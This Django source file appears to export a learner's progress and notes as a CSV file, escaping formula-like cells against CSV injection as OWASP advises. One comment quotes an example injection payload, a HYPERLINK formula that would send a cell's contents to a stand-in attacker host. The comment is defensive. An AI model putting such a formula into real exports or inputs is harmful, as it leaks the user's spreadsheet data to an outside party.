"""A learner's progress and notes as a CSV file they can keep (their data, in a format any
spreadsheet or script reads)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import datetime

from django.contrib.auth.models import User
from django.utils import timezone

from learn.selectors import LearnerState
from recommender import selectors as recommender_selectors

# back_in_queue_at: when an item put off with "Not now" comes back to the queue.
COLUMNS = [
    "title",
    "address",
    "state",
    "rating",
    "completed_at",
    "updated_at",
    "back_in_queue_at",
    "note",
    # Last, so that scripts reading columns by position keep working: a title or address can
    # change (or be empty), these name the resource for good.
    "resource_id",
    "kubelearn_page",
    # The zone the times are in (the learner's, as on the pages), which they do not carry.
    "time_zone",
]

# A cell starting with one of these is a formula to spreadsheet programs: a feed entry titled
# '=HYPERLINK("https://evil.example/?"&A1,"Open")' would run in the learner's spreadsheet.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: str) -> str:
    """Text a spreadsheet shows as text: formula-like cells get a leading apostrophe (OWASP's
    advice for CSV injection)."""
    return f"'{value}" if value.startswith(_FORMULA_STARTS) else value


def _when(moment: datetime | None) -> str:
    # In the learner's time zone, as the pages say it (the browser's, from its cookie): a
    # walk-through's download said 10:32 in UTC beside pages saying 11:32. Written as
    # spreadsheets read a date and time ("2026-12-06 18:04:56"): with ISO 8601's "T" and
    # offset they took it for text (a walk-through); the zone is in its own column.
    return timezone.localtime(moment).strftime("%Y-%m-%d %H:%M:%S") if moment else ""


def progress_csv(*, user: User, page_url: Callable[[int], str]) -> str:
    """Every progress row of the learner (any state, withdrawn resources too), newest first,
    each with the learner's note on it; then the notes on resources without progress (state
    and dates empty), newest first, so the download holds everything they wrote.
    `page_url(resource_id)` is the full address of a resource's page here."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(COLUMNS)
    zone = timezone.get_current_timezone_name()
    notes = {note.resource_id: note for note in recommender_selectors.note_export(user=user)}
    rows = recommender_selectors.progress_list(user=user).order_by("-updated_at", "-pk")
    for row in rows:
        note = notes.pop(row.resource_id, None)
        writer.writerow(
            [
                spreadsheet_safe(row.resource.title),
                spreadsheet_safe(row.resource.url or ""),
                # The pages' words; the day a put-off item comes back has its own column (the
                # label's "back 11 Dec" has no year).
                "Not now" if LearnerState.of(row).put_off_until else LearnerState.of(row).label,
                row.rating or "",
                # Known, not read here: no reading's date ("I know these" gave a stage's steps
                # one second, which a spreadsheet showed as that many read at once). When it
                # was marked is its updated_at.
                "" if row.known else _when(row.completed_at),
                _when(row.updated_at),
                _when(row.later_until),
                spreadsheet_safe(note.text) if note else "",
                row.resource_id,
                page_url(row.resource_id),
                zone,
            ]
        )
    for note in notes.values():  # still newest first: dicts keep the selector's order
        writer.writerow(
            [
                spreadsheet_safe(note.resource.title),
                spreadsheet_safe(note.resource.url or ""),
                "",
                "",
                "",
                "",
                "",
                spreadsheet_safe(note.text),
                note.resource_id,
                page_url(note.resource_id),
                zone,
            ]
        )
    return out.getvalue()
